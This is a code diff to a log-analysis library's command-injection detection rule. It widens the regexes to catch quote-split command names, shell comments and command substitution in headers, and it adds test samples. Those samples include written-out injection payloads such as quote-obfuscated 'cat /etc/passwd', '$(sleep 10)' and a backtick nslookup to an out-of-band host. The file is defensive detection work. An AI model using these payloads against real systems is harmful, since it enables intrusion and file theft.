@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from lwsyslog.matching.linear import Regex
+import re
+
+from lwsyslog.matching.linear import Regex, linear_search
 from lwsyslog.rules.base import ACCESS, BOTH, PAYLOAD_FIELDS, PatternRule
 from lwsyslog.rules.samples import AccessSample, ErrorSample
 from lwsyslog.severity import Severity
@@ -30,8 +32,9 @@ STRONG_COMMANDS = (
     r"|powershell|tasklist|cmd(?:\.exe)?|dir\s+[a-z]:|net\s+(?:user|view|localgroup|share)"
     r"|netsh|sleep\s+\d{1,3}\b|type\s+(?:%[a-z_]+%|[a-z]:)|(?:/(?:usr/)?s?bin/)\w)"
 )
-# What may follow a command word: the end of the value, white space, a separator, a quote.
-_END = r"\s;|&`)<>'\"$"
+# What may follow a command word: the end of the value, white space, a separator, a quote,
+# a shell comment ("#" ends the command line: ``;id%23``).
+_END = r"\s;|&`)<>'\"$#"
 # "dir" counts only when a separator, a switch or a drive comes next ("dir /s", "dir c:"),
 # not before a word ("dir straits").
 _DIR_NEXT = r"(?:$|[;|&`]|/[a-z]|[a-z]:)"
@@ -48,6 +51,29 @@ def _command(prefix: str, end: str, groups: tuple[str, str]) -> str:
     )
 
 
+# Command names as a shell reads them through quotes that split them (``c'a't``,
+# ``who'am'i``, ``c"a"t``: the quotes vanish). Names of three letters or more: an apostrophe
+# in a shorter word is English ("i'd").
+_QUOTE_SPLIT = "|".join(
+    "['\"]{0,2}".join(re.escape(letter) for letter in name)
+    for name in (
+        "cat", "whoami", "uname", "wget", "curl", "bash", "ping", "sleep", "echo", "nslookup",
+        "ifconfig", "ipconfig", "netstat", "python", "perl", "chmod", "busybox", "hostname",
+    )
+)  # fmt: skip
+
+# A command substitution, ``$(...)`` or backticks, run by a shell that reads the field: all
+# the rule looks for in a User-Agent, a Cookie or another header, where ";" and "|" are
+# ordinary text (``Mozilla/5.0 (X11; Linux x86_64)``).
+_SUBSTITUTION = linear_search(
+    Regex(
+        _command(r"(?:`|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
+        + r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
+    )
+)
+_HEADER_FIELDS = frozenset({"user_agent", "cookie", "headers"})
+
+
 class CommandShellChain(PatternRule):
     """A shell separator or substitution followed by a command (``;id``, ``|cat``, ``$(...)``).
 
@@ -55,6 +81,10 @@ class CommandShellChain(PatternRule):
     the payload for a value pasted at the start of a command line. Only the words that are no
     English count there, and only when nothing follows the separator (``fields=id|name`` is
     a list).
+
+    In the User-Agent, the Cookie and other logged headers only a command substitution counts
+    (``$(sleep 10)``, a backtick ``nslookup``): ";" separates a User-Agent's comments and a
+    Cookie's pairs.
     """
 
     id = "command-injection-chain"
@@ -62,15 +92,16 @@ class CommandShellChain(PatternRule):
     severity = Severity.CRITICAL
     description = "shell separator or substitution followed by a command (;id, |cat, $(...))"
     logs = BOTH
-    fields = ("target", "referer", "message")
+    fields = ("target", "referer", "message", "user_agent", "cookie", "headers")
     # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
-    # (c''at), and ?-globs standing for one (/???/c?t).
+    # (c''at, c'a't), and ?-globs standing for one (/???/c?t).
     pattern = Regex(
         _command(r"(?:[;|`\n]|&&|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
         + rf"|(?P<frag2>&\s+{STRONG_COMMANDS})(?:$|[{_END}])"
         r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
         rf"|(?P<frag3>=\s*(?:/(?:usr/)?s?bin/)?{STRONG_COMMANDS}\s*[;|]+\s*)(?:$|&)"
         r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
+        rf"|(?P<frag5>(?:[;|`\n]|&&|\$\()[\s+]*(?:{_QUOTE_SPLIT}))(?:$|[+{_END}])"
         r"|/\?{3}/[\w?]{0,10}\?"
         r"|(?P<frag4>;\s*\$[a-z_]\w*)\s*(?:$|[;|&`])"
         rf"|\{{(?:{STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
@@ -98,6 +129,15 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/diag?ip=x%7Cusr/bin/id"),
         AccessSample(target="/diag?ip=x;%7Bcat,/etc/passwd%7D"),
         AccessSample(target="/diag?ip=%7Bwget,http://198.51.100.9/x%7D"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;c'a't%20/e't'c/pa's'swd"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;who'am'i"),
+        AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%22a%22t%20/etc/hosts"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;id%23"),
+        AccessSample(target="/ping.php?ip=127.0.0.1|whoami%23"),
+        AccessSample(target="/", user_agent="$(sleep 10)"),
+        AccessSample(target="/", user_agent="Mozilla/5.0 `nslookup abc.oast.example`"),
+        AccessSample(target="/", cookie="lang=$(sleep 10)"),
+        AccessSample(target="/", headers=(("X-Forwarded-For", "`id`"),)),
     )
     must_not_match = (
         AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
@@ -113,7 +153,19 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/shop;jsessionid=1?x=%24total"),
         AccessSample(target="/api?fields={cat,dog}"),
         AccessSample(target="/api?fields={id,name,ls,price}"),
+        AccessSample(target="/search?q=tom;o'neil's+cat"),
+        AccessSample(target="/search?q=a;i'd+like+a+cat"),
+        AccessSample(target="/search?q=c%23;+f%23;+language+list%23top"),
+        AccessSample(target="/", user_agent="Mozilla/5.0 (X11; Linux x86_64; id) Gecko/20100101"),
+        AccessSample(target="/", cookie="theme=dark; id=5; sh=1; ls=2"),
+        AccessSample(target="/", user_agent="Mozilla/5.0 (compatible; curl-like; +http://x/)"),
     )
+
+    def match_field(self, field: str, text: str) -> str | None:
+        """The match in ``text``; in a header field only a command substitution."""
+        if field in _HEADER_FIELDS:
+            return _SUBSTITUTION.search(text)
+        return self.linear.search(text)
 
 
 class CommandDownloadExec(PatternRule):
